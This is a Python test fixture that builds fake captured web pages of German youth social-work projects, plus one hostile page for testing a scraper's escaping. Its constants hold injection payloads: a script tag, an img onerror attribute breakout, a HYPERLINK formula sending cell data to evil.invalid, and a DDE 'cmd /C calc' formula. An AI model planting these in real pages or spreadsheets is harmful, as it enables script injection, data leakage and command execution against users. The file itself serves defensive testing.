"""A small world for the eyes: offices of real places, so that a map has points, and one page that means no good."""

from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path

from jsiq_scrape.captures import ArchiveRecord
from jsiq_scrape.database import build
from jsiq_scrape.evidence.store import Capture, Snapshots
from jsiq_scrape.workspace import Workspace

FIRST = datetime(2016, 5, 2, 9, tzinfo=UTC)
SITE = "http://www.programm.invalid/standorte/details/"
ARCHIVE = "https://web.archive.org/web/20160502090000/"

#: What a page may try: markup, script, a formula, an attribute's end, signs that turn the reading direction.
SCRIPT = "<script>document.title='taken over'</script>"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Angebot")'
IMAGE = '"><img src="http://evil.invalid/x.png" onerror="alert(1)">'

#: Kommune, postal code, town, Land; the texts below are invented.
PLACES = (
    ("Kreis Düren", "52351", "Düren", "Nordrhein-Westfalen"),
    ("Stadt Köln", "50667", "Köln", "Nordrhein-Westfalen"),
    ("Landkreis Nordwestmecklenburg", "23970", "Wismar", "Mecklenburg-Vorpommern"),
    ("Stadt Leipzig", "04109", "Leipzig", "Sachsen"),
    ("Stadt München", "80331", "München", "Bayern"),
    ("Stadt Nürnberg", "90402", "Nürnberg", "Bayern"),
    ("Stadt Kiel", "24103", "Kiel", "Schleswig-Holstein"),
    ("Stadt Freiburg im Breisgau", "79098", "Freiburg im Breisgau", "Baden-Württemberg"),
)
#: Title, institution, target group, services, answers to the three building blocks.
PROJECTS = (
    ("Lotsen vor Ort", "Jugendwerk Brückenschlag e. V.", "Schüler*innen ab Klasse 7",
     "Einzelfallberatung, Begleitung zu Ämtern", "ja", "ja", "nein"),
    ("Straßenteam", "Werkstatt Süd gGmbH", "junge Erwachsene ohne Abschluss",
     "Gespräche auf Plätzen und in Parks, Clearingstelle am Großmarkt", "nein", "ja", "ja"),
)  # fmt: skip


def page(place: tuple[str, str, str, str], projects: tuple[tuple[str, ...], ...], period: str) -> bytes:
    """A profile page in markup of our own."""
    municipality, postal_code, city, state = place

    def row(label: str, value: str) -> str:
        return f"<dt>{escape(label)}</dt><dd>{escape(value)}</dd>"

    parts = [
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{escape(municipality)}</title></head><body>",
        f"<h1>{escape(municipality)}</h1><h2>Kontakt</h2><p>{escape(municipality)}<br>Koordinierungsstelle Jugend<br>",
        f"Beispielweg 3<br>{postal_code} {escape(city)}<br>{escape(state)}</p>",
        "<h2>Fördergebiete</h2><h3>FG 1: Altstadt</h3><p>Die Straßen zwischen Markt und Fluss.</p>",
        "<dl>" + row("Beteiligung am Städtebauförderungsprogramm „Soziale Stadt“", "ja") + "</dl>",
        "<h2>Projekte</h2>",
    ]
    for title, institution, target, services, *answers in projects:
        parts.append(f"<h3>{escape(title)}</h3><dl>")
        parts.append(row("Umsetzende Institution(en)", institution) + row("Zeitraum", period))
        parts.append(row("Zielgruppe", target) + row("Angebote", services))
        labels = ("Casemanagement", "Beratung/Clearing", "Aufsuchende Jugendsozialarbeit")
        parts += [row(label, answer) for label, answer in zip(labels, answers, strict=True) if answer]
        parts.append("</dl>")
    return "".join([*parts, "</body></html>"]).encode()


def small_world(root: Path) -> Workspace:
    """Two captures a year apart at all places, the second from a web archive, and the page that means no good."""
    workspace = Workspace(root)
    hostile = (
        (SCRIPT, f"{IMAGE} gGmbH", FORMULA, f"+1+cmd|' /C calc'!A0 {SCRIPT}", "ja", "", "nein"),
        (FORMULA, "@SUM(A1:A9)", "-2+3 Jugendliche", "\u202eumgedreht\u202c", "", "", ""),
    )
    for number, period in enumerate(("01.01.2015 - 31.12.2018", "01.01.2015 - 30.06.2022")):
        moment = FIRST + timedelta(days=365 * number)
        with Snapshots(workspace.snapshots).run("live", moment) as run:
            for place in PLACES:
                run.add(capture(place[0], moment, page(place, PROJECTS, period), archived=bool(number)))
            wicked = (f"Landkreis {IMAGE}", "12345", "Nirgendwo", "Hessen")
            note = f"<dl><dt>{escape(IMAGE)}</dt><dd>{escape(SCRIPT + FORMULA)}</dd></dl><h2>Projekte"
            body = page(wicked, hostile, period).replace(b"<h2>Projekte", note.encode())
            run.add(capture("boese", moment, body, archived=False))
    build(workspace)
    return workspace


def capture(name: str, moment: datetime, body: bytes, *, archived: bool) -> Capture:
    url = SITE + "".join(letter if letter.isascii() and letter.isalnum() else "-" for letter in name.lower()) + ".html"
    record = ArchiveRecord("wayback", f"{moment:%Y%m%d%H%M%S}", url, ARCHIVE + url) if archived else None
    return Capture(
        source="test",
        url=url,
        asked_at=moment,
        final_url=url,
        hops=(),
        status=200,
        headers=(("content-type", "text/html; charset=utf-8"),),
        body=body,
        captured_at=moment,
        retrieved_at=moment,
        archive=record,
    )
